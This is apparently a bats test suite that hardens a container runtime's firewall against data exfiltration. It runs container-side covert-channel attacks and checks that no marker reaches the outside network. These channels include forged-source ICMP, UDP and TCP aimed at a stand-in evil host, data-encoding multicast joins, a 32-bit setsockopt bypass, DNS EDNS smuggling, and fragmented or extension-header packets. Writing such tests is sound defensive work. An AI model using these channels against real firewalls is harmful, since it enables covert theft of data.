#!/usr/bin/env bats
# hardening_netns (issue 12): root in a firewalled container, with the capabilities engines
# grant by default (CAP_NET_RAW included), gets data out through what the KERNEL sends for its
# network namespace (echo replies, ICMP errors, TCP resets, IGMP/MLD reports), through forged
# sources and loopback addresses on the veth, or lets a forbidden host read it out by probing.
#
# Every check is on the receiving side: sniff.py records every frame the world's end of the
# veth (w0) receives while the attack runs, and the test looks for its marker's bytes in them
# (hex, anywhere in the frame: a payload, an ICMP quote, an ack number, a group address).
#
# Validation against plain runc (the attack must work there, or the test proves nothing):
#   RUNTIME=/usr/sbin/runc bats integration/bats/hardening_netns.bats
# runs the same attacks in the same world with no firewall and asserts the opposite: the marker
# arrives (every test passes both ways; run with runc on 2026-11-30, kernel 6.18).
#
# Needs root, gcc, jq, dnsmasq, busybox-static, iproute2, python3.

load helpers
load firewall_helpers
load hardening_helpers

setup_file() {
	hd_setup_file nn
	gcc -O2 -Wall -static -no-pie -o "$FW_TOOLS/nsattack" "$HD_TOOLS_SRC/nsattack.c"
}
teardown_file() { hd_teardown_file; }

setup() {
	fw_setup
	c=$(cid nn)
}
teardown() { teardown_common; }

ALLOW=cgfw.io/allow=allowed.test
CLIENT4=198.18.0.100
CLIENT6=fd00:cf::100

# Plain runc validates the attacks: no firewall, so the marker must get through.
plain_runc() { [ "$(basename "$RUNTIME")" = runc ]; }

# nrt ARGS...: the runtime; plain runc gets no --cgfw-log-dir.
nrt() { if plain_runc; then rt "$@"; else frt "$@"; fi; }

# nspawn ARGS...: the runtime in the background (spawn cannot run a shell function).
nspawn() {
	if plain_runc; then
		spawn "$RUNTIME" --root "$ROOT" "$@"
	else
		spawn "$RUNTIME" --root "$ROOT" --cgfw-log-dir "$LOGS" "$@"
	fi
}

# start_in BUNDLE ID: create + start ID from BUNDLE, wait until it runs.
start_in() {
	nrt create --bundle "$1" "$2" || fail "create $2 failed"
	nrt start "$2" || fail "start $2 failed"
	wait_status "$2" running 10
}

# sleeper [fwbundle options]: $c (CAP_NET_RAW added) sleeping in the world.
sleeper() {
	fwbundle "$TEST_DIR/b" "$@" --args "sleep 600"
	add_caps "$TEST_DIR/b" CAP_NET_RAW
	start_in "$TEST_DIR/b" "$c"
}

# nx CMD...: run CMD in $c, bounded.
nx() { nrt exec "$c" timeout 8 "$@"; }

# marker: a fresh marker for this test (printable, so it can be sent as a payload).
marker() { printf 'CGFW%04x%04x' "$RANDOM" "$RANDOM"; }
hex() { printf '%s' "$1" | od -An -tx1 | tr -d ' \n'; }

# sniff SECONDS: record every frame w0 receives (sets SNIFF_LOG); returns once it listens.
sniff() {
	SNIFF_LOG=$TEST_DIR/sniff.$RANDOM.log
	: >"$SNIFF_LOG"
	spawn "$WORLD" world-exec "$FW_WORLD" timeout 120 "$HD_PY" "$HD_TOOLS_SRC/sniff.py" w0 "$1" "$SNIFF_LOG"
	local i
	for ((i = 0; i < 50; i++)); do
		grep -q '^ready' "$SNIFF_LOG" && return 0
		sleep 0.1
	done
	fail "sniff.py did not start"
}

# sniffed HEX: a frame carrying these bytes reached the world.
sniffed() { grep -v '^ready' "$SNIFF_LOG" | grep -qi "$1"; }

# expect_leak_or_block HEX WHAT: with runc the bytes must have arrived; with the firewall not.
expect_leak_or_block() {
	local h=$1 what=$2
	sleep 1 # replies and reports are sent at once; a second is plenty
	if plain_runc; then
		sniffed "$h" || fail "validation: $what did not reach the world even without a firewall"
	else
		! sniffed "$h" || fail "$what reached the world past the firewall"
	fi
}

# blocked_event SELECTOR: the firewall logged it (nothing to check under plain runc).
blocked_event() {
	plain_runc && return 0
	wait_event "$c" "$1" >/dev/null
}

# ---------------------------------------------------------------------------------------------
# Class 2: forged source, kernel reply. The container sends to its own address with a forbidden
# host as the source; the kernel would answer that host from its own control sockets.

@test "forged source: ICMP echo to its own address in the name of evil.test: no echo reply carries the marker (v4, v6)" {
	sleeper --annotation "$ALLOW"
	local m4 m6
	m4=$(marker)
	m6=$(marker)
	sniff 10
	nx nsattack echo "$FW_EVIL4" "$CLIENT4" "$m4" || true
	nx nsattack echo "$FW_EVIL6" "$CLIENT6" "$m6" || true
	expect_leak_or_block "$(hex "$m4")" "an IPv4 echo reply with the marker"
	expect_leak_or_block "$(hex "$m6")" "an IPv6 echo reply with the marker"
	blocked_event '.kind == "packet" and (.rule | test("forged"))'
}

@test "forged source: UDP to a closed port (ICMP port unreachable quotes it) and a TCP SYN (RST acks the marker)" {
	sleeper --annotation "$ALLOW"
	local m ack
	m=$(marker)
	ack=$(printf '4d4b%04x' "$RANDOM") # the RST's ack number: "MK" + 2 random bytes
	sniff 10
	nx nsattack udp "$FW_EVIL4" "$CLIENT4" 9 "$m" || true
	nx nsattack udp "$FW_EVIL6" "$CLIENT6" 9 "$m-6" || true
	nx nsattack syn "$FW_EVIL4" "$CLIENT4" 9 "$ack" || true
	expect_leak_or_block "$(hex "$m")" "an ICMP port unreachable quoting the marker"
	expect_leak_or_block "$(hex "$m-6")" "an ICMPv6 port unreachable quoting the marker"
	expect_leak_or_block "$ack" "a TCP RST acknowledging the marker"
}

@test "forged DNS answer on loopback: a datagram in the name of the resolver never reaches a socket of the namespace" {
	sleeper --annotation "$ALLOW"
	local m out
	m=$(marker)
	nspawn exec "$c" timeout 6 nsattack listen "$CLIENT4" 5353 5
	out=$SPAWN_OUT
	sleep 0.5
	nx nsattack udp "$FW_DNS4" "$CLIENT4" 5353 "$m" || true
	sleep 5.5
	if plain_runc; then
		grep -q "got $FW_DNS4 $m" "$out" || fail "validation: the forged datagram did not arrive under runc: $(cat "$out")"
	else
		! grep -q "$m" "$out" || fail "a forged datagram reached a socket: $(cat "$out")"
		blocked_event ".kind == \"packet\" and .port == 5353 and (.rule | test(\"forged\"))"
	fi
}

# ---------------------------------------------------------------------------------------------
# Class 3: multicast membership reports, no capability needed.

# mcast_markers: groups and a source that encode two random bytes: g4, s4 (IPv4), g6 (IPv6),
# and g4x (a second IPv4 group, for the source-specific join).
mcast_markers() {
	b1=$((RANDOM % 200 + 20))
	b2=$((RANDOM % 200 + 20))
	g4=239.67.$b1.$b2
	g4x=239.68.$b1.$b2
	s4=198.71.$b2.$b1
	g6=ff0e::4347:$(printf '%02x%02x' "$b1" "$b2")
}

# expect_no_reports: no IGMP/MLD report naming those groups or the source reached the world
# (with plain runc: they all did).
expect_no_reports() {
	expect_leak_or_block "$(printf 'ef43%02x%02x' "$b1" "$b2")" "an IGMP report naming group $g4"
	expect_leak_or_block "$(printf 'c647%02x%02x' "$b2" "$b1")" "an IGMPv3 report naming source $s4"
	expect_leak_or_block "ff0e000000000000000000004347$(printf '%02x%02x' "$b1" "$b2")" "an MLD report naming group $g6"
}

@test "multicast: joins and source filters whose addresses encode data are refused; no IGMP/MLD report carries them" {
	fwbundle "$TEST_DIR/b" --annotation "$ALLOW" --args "sleep 600" # default caps: no CAP_NET_RAW
	start_in "$TEST_DIR/b" "$c"
	mcast_markers
	sniff 15
	run nx nsattack join "$g4"
	run nx nsattack join "$g4" "$s4"
	run nx nsattack mcast-join "$g4"
	run nx nsattack join "$g6"
	run nx nsattack mcast-join "$g6"
	if ! plain_runc; then
		run nx nsattack join "$g4"
		[ "$status" -eq 2 ] && [[ $output == *"join: Operation not permitted"* ]] || fail "IPv4 join not refused: $output"
		run nx nsattack mcast-join "$g6"
		[ "$status" -eq 2 ] || fail "MCAST_JOIN_GROUP v6 not refused: $output"
	fi
	expect_no_reports
	blocked_event ".kind == \"multicast\" and .ip == \"$g4\" and (.rule | test(\"IP_ADD_MEMBERSHIP\"))"
	blocked_event ".kind == \"multicast\" and .ip == \"$g6\" and (.rule | test(\"MCAST_JOIN_GROUP\"))"
}

# Found by a red-team pass: the kernel runs cgroup/setsockopt only for native system calls, so
# a 64-bit process's 32-bit (int 0x80) setsockopt joins any group, with no capability. The
# boundary filter checks the groups every membership report names, whoever's socket sent it.
@test "multicast: 32-bit (compat) joins pass setsockopt, but no report naming their groups or sources leaves" {
	fwbundle "$TEST_DIR/b" --annotation "$ALLOW" --args "sleep 600"
	start_in "$TEST_DIR/b" "$c"
	mcast_markers
	sniff 15
	run nx nsattack compat-join "$g4"
	[ "$status" -eq 0 ] || fail "compat join did not run: $output"
	run nx nsattack compat-join "$g4x" "$s4"
	run nx nsattack compat-join "$g6"
	expect_no_reports
	blocked_event ".kind == \"multicast\" and .ip == \"$g4\" and (.rule | test(\"kernel\"))"
}

@test "multicast: a group an allow CIDR covers can be joined" {
	plain_runc && skip "firewall behaviour only"
	fwbundle "$TEST_DIR/b" --annotation "cgfw.io/allow=allowed.test,239.255.0.0/16" --args "sleep 600"
	start_in "$TEST_DIR/b" "$c"
	run -0 nx nsattack join 239.255.1.2
	run -2 nx nsattack join 239.254.1.2
}

# ---------------------------------------------------------------------------------------------
# Class 4: ND-typed ICMPv6 from a process's raw socket.

@test "neighbour-discovery-typed ICMPv6 to ff02::1 from a raw socket: dropped and logged; IPv6 still works" {
	sleeper --annotation "$ALLOW"
	local m
	m=$(marker)
	sniff 10
	nx rawsend icmp6 ff02::1 135 "$m" || true
	nx rawsend icmp6 ff02::1 134 "$m" || true
	expect_leak_or_block "$(hex "$m")" "an ND-typed ICMPv6 message with the marker"
	blocked_event '.kind == "packet" and .proto == "icmpv6" and .ip == "ff02::1"'
	# The kernel's own neighbour discovery still works: IPv6 to an allowed host.
	run -0 nx getconn-musl -6 allowed.test 80
}

# ---------------------------------------------------------------------------------------------
# Class 6: loopback addresses out of the veth, no capability needed.

@test "loopback destinations leave only on lo: SO_BINDTODEVICE and IP_PKTINFO to 127.0.0.1 and ::1 are dropped and logged" {
	sleeper --annotation "$ALLOW"
	local m
	m=$(marker)
	sniff 10
	nx nsattack bindtodev c0 127.0.0.1 9999 "$m-a" || true
	nx nsattack pktinfo c0 127.0.0.1 9999 "$m-b" || true
	nx nsattack bindtodev c0 ::1 9999 "$m-c" || true
	nx nsattack pktinfo c0 ::1 9999 "$m-d" || true
	local s
	for s in a b c d; do
		expect_leak_or_block "$(hex "$m-$s")" "a loopback-addressed datagram ($s)"
	done
	blocked_event '.kind == "packet" and .ip == "127.0.0.1" and (.rule | test("loopback"))'
	blocked_event '.kind == "packet" and .ip == "::1" and (.rule | test("loopback"))'
	# Loopback itself still works inside the container.
	plain_runc || run -0 nx sh -c 'nsattack listen 127.0.0.1 7777 2 & sleep 0.3; nsattack udp 127.0.0.1 127.0.0.1 7777 hello-lo; wait' 
}

# ---------------------------------------------------------------------------------------------
# Class 7: a forbidden host probes; the kernel's answers (RST, port unreachable, echo reply)
# would carry one bit per port.

@test "probing from a forbidden host: open and closed ports, UDP and ping all look the same (no answer at all)" {
	sleeper --annotation "$ALLOW"
	nspawn exec "$c" timeout 20 nsattack listen-tcp :: 7001 18
	nspawn exec "$c" timeout 20 nsattack listen 0.0.0.0 7101 18
	sleep 0.5
	run -0 "$WORLD" world-exec "$FW_WORLD" "$HD_PY" "$HD_TOOLS_SRC/probe.py" tcp "$FW_EVIL4" "$CLIENT4" 7001 7002
	local tcp=$output
	run -0 "$WORLD" world-exec "$FW_WORLD" "$HD_PY" "$HD_TOOLS_SRC/probe.py" udp "$FW_EVIL4" "$CLIENT4" 7102
	local udp=$output
	run -0 "$WORLD" world-exec "$FW_WORLD" "$HD_PY" "$HD_TOOLS_SRC/probe.py" ping "$FW_EVIL4" "$CLIENT4"
	local ping=$output
	run -0 "$WORLD" world-exec "$FW_WORLD" "$HD_PY" "$HD_TOOLS_SRC/probe.py" tcp "$FW_EVIL6" "$CLIENT6" 7001 7002
	local tcp6=$output
	if plain_runc; then
		[[ $tcp == *"7001 open"*"7002 refused"* ]] || fail "validation: tcp probe under runc: $tcp"
		[[ $udp == *"7102 refused"* ]] || fail "validation: udp probe under runc: $udp"
		[[ $ping == reply ]] || fail "validation: ping under runc: $ping"
		[[ $tcp6 == *"7001 open"*"7002 refused"* ]] || fail "validation: tcp6 probe under runc: $tcp6"
	else
		[[ $tcp == *"7001 silent"*"7002 silent"* ]] || fail "the forbidden host told the ports apart: $tcp"
		[[ $udp == *"7102 silent"* ]] || fail "udp probe answered: $udp"
		[[ $ping == silent ]] || fail "ping answered: $ping"
		[[ $tcp6 == *"7001 silent"*"7002 silent"* ]] || fail "the forbidden host told the v6 ports apart: $tcp6"
		blocked_event ".kind == \"inbound\" and .ip == \"$FW_EVIL4\""
	fi
}

@test "probing from an allowed host still gets answers (the boundary filter follows the policy)" {
	plain_runc && skip "firewall behaviour only"
	fwbundle "$TEST_DIR/b" --annotation "cgfw.io/allow=allowed.test,$FW_EVIL4/32" --args "sleep 600"
	start_in "$TEST_DIR/b" "$c"
	nspawn exec "$c" timeout 10 nsattack listen-tcp :: 7001 8
	sleep 0.5
	run -0 "$WORLD" world-exec "$FW_WORLD" "$HD_PY" "$HD_TOOLS_SRC/probe.py" tcp "$FW_EVIL4" "$CLIENT4" 7001 7002
	[[ $output == *"7001 open"*"7002 refused"* ]] || fail "allowed host: $output"
	run -0 "$WORLD" world-exec "$FW_WORLD" "$HD_PY" "$HD_TOOLS_SRC/probe.py" ping "$FW_EVIL4" "$CLIENT4"
	[ "$output" = reply ]
}

# ---------------------------------------------------------------------------------------------
# What the issue did not name but an attacker would try.

@test "link-local: TCP/UDP to the world side's fe80:: address is decided by the policy (refused, nothing arrives)" {
	sleeper --annotation "$ALLOW"
	local ll m
	ll=$(ip -n "$FW_WORLD" -6 -j addr show dev w0 scope link | jq -r '.[0].addr_info[] | select(.family == "inet6") | .local')
	[ -n "$ll" ] || fail "no link-local address on w0"
	m=$(marker)
	sniff 8
	nx nsattack bindtodev c0 "$ll" 9999 "$m" || true
	expect_leak_or_block "$(hex "$m")" "a datagram to the world's link-local address"
}

# Found by the red-team pass: the proxy forwarded the client's query bytes as they were, so an
# EDNS option or an additional record rode a query for an allowed name to the upstream.
@test "DNS: data in a query's EDNS option or additional records never leaves (the upstream gets the question only)" {
	sleeper --annotation "$ALLOW"
	local m
	m=$(marker)XDNS
	sniff 10
	run -0 nx nsattack dns-extra "$FW_DNS4" allowed.test "$m"
	[[ $output == "rcode 0 answers 1" ]] || plain_runc || fail "the allowed name was not answered: $output"
	expect_leak_or_block "$(hex "$m")" "a query carrying the marker"
}

@test "allow-map exhaustion: 4200 addresses from allowed answers: the map fills, later addresses stay refused (fail closed)" {
	plain_runc && skip "firewall behaviour only"
	sleeper --annotation "$ALLOW" --annotation cgfw.io/dns-upstream=$HD_EVIL_DNS
	local k
	for k in $(seq 1 21); do
		nx dnsq tcp "$FW_DNS4" "fill.$k.allowed.test" >/dev/null || true
	done
	# The map holds 4096 addresses: some of the last name's 200 could not be added. Every one
	# of them that is not in the map must be refused at connect (EPERM), not let through.
	local refused=0 ip
	for ip in 10.21.0.1 10.21.0.100 10.21.0.200; do
		run nx getconn-musl "$ip" 80
		[[ $output == *"Operation not permitted"* ]] && refused=$((refused + 1))
	done
	[ "$refused" -gt 0 ] || fail "no address of the last answer was refused: the map did not fill, or a full map lets addresses through"
	# An address that made it in is allowed (connect is attempted, not refused).
	run nx getconn-musl 10.1.0.1 80
	[[ $output != *"Operation not permitted"* ]] || fail "an address from the first answer was refused: $output"
}

@test "fragments and IPv6 extension headers: a fragmented forged echo, ND-typed ICMPv6 behind Destination Options or in fragments" {
	sleeper --annotation "$ALLOW"
	local m1 m2 m3
	m1=$(marker)X-fragmented-echo
	m2=$(marker)X-dstopts
	m3=$(marker)X-fragments
	sniff 10
	nx nsattack echo-frag "$FW_EVIL4" "$CLIENT4" "$m1" || true
	nx nsattack icmp6-ext "$CLIENT6" ff02::1 135 "$m2" dstopts || true
	nx nsattack icmp6-ext "$CLIENT6" ff02::1 135 "$m3" frag || true
	expect_leak_or_block "$(hex "${m1:8}")" "an echo reply to a fragmented forged request"
	expect_leak_or_block "$(hex "${m2:8}")" "ND-typed ICMPv6 behind a Destination Options header"
	expect_leak_or_block "$(hex "${m3:8}")" "ND-typed ICMPv6 in fragments"
}

@test "a pod: two firewalled containers in one network namespace, different policies: each reaches its own names only" {
	plain_runc && skip "firewall behaviour only"
	local c2
	c2=$(cid nn2)
	fwbundle "$TEST_DIR/a" --annotation "$ALLOW" --args "sleep 600"
	fwbundle "$TEST_DIR/b2" --annotation cgfw.io/allow=github.com --args "sleep 600"
	start_in "$TEST_DIR/a" "$c"
	start_in "$TEST_DIR/b2" "$c2"
	# Both boundary filters are on c0: each container's own traffic passes the other's.
	run -0 nrt exec "$c" timeout 8 getconn-musl allowed.test 80
	[[ $output == *allowed.test* ]] || fail "a: $output"
	run -0 nrt exec "$c2" timeout 8 getconn-musl github.com 80
	[[ $output == *github.com* ]] || fail "b: $output"
	run -0 nrt exec "$c" timeout 8 getconn-musl -6 allowed.test 80
	run -0 nrt exec "$c2" timeout 8 getconn-musl -6 github.com 80
	run nrt exec "$c" timeout 8 getconn-musl github.com 80
	[ "$status" -ne 0 ] || fail "a reached github.com: $output"
	run nrt exec "$c2" timeout 8 getconn-musl "$FW_ALLOWED4" 80
	[[ $output == *"Operation not permitted"* ]] || fail "b reached allowed.test's address: $output"
	# Deleting one leaves the other's filter and traffic intact.
	nrt delete --force "$c2"
	run -0 nrt exec "$c" timeout 8 getconn-musl allowed.test 80
}

@test "the runtime (so the sidecar) in the root cgroup: the proxy's own upstream queries pass the boundary, names still resolve" {
	plain_runc && skip "firewall behaviour only"
	# The boundary filter treats sockets of the root cgroup like the kernel's (its per-CPU
	# control sockets live there); the sidecar's upstream queries must still pass.
	local root=/sys/fs/cgroup
	[ -e "$root/cgroup.procs" ] && [ "$(stat -f -c %T "$root")" = cgroup2fs ] || root=/sys/fs/cgroup/unified
	fwbundle "$TEST_DIR/b" --annotation "$ALLOW" --args "sleep 600"
	(
		echo "$BASHPID" >"$root/cgroup.procs"
		nrt create --bundle "$TEST_DIR/b" "$c"
	) || fail "create from the root cgroup failed"
	nrt start "$c" || fail "start failed"
	local sidecar
	sidecar=$(pgrep -f -- " sidecar $c\$" | head -n1)
	[ -n "$sidecar" ] || fail "no sidecar"
	grep -q '^0::/$' "/proc/$sidecar/cgroup" || fail "the sidecar is not in the root cgroup: $(cat "/proc/$sidecar/cgroup")"
	run -0 nx getconn-musl allowed.test 80
	[[ $output == *allowed.test* ]] || fail "$output"
	run -0 nx dnsq tcp "$FW_DNS4" allowed.test
}

@test "a firewalled container in the runtime's own (host) network namespace is refused: its filter would decide the host's traffic" {
	plain_runc && skip "firewall behaviour only"
	# Safe stand-in for the host: the runtime itself runs inside the world's client netns, and
	# the bundle joins that same netns (a regression would filter only that test netns).
	fwbundle "$TEST_DIR/b" --annotation "$ALLOW" --args "sleep 600"
	run nsenter --net="$FW_NETNS" timeout 30 "$RUNTIME" --root "$ROOT" --cgfw-log-dir "$LOGS" create --bundle "$TEST_DIR/b" "$c"
	[ "$status" -ne 0 ] || fail "created in the runtime's own network namespace"
	[[ $output == *"shares the host's network namespace"* ]] || fail "$output"
	[ ! -e "$FW_PIN_ROOT/$c" ] || fail "pins left"
	[ -z "$(fw_leftovers "$c")" ] || fail "left: $(fw_leftovers "$c")"
}
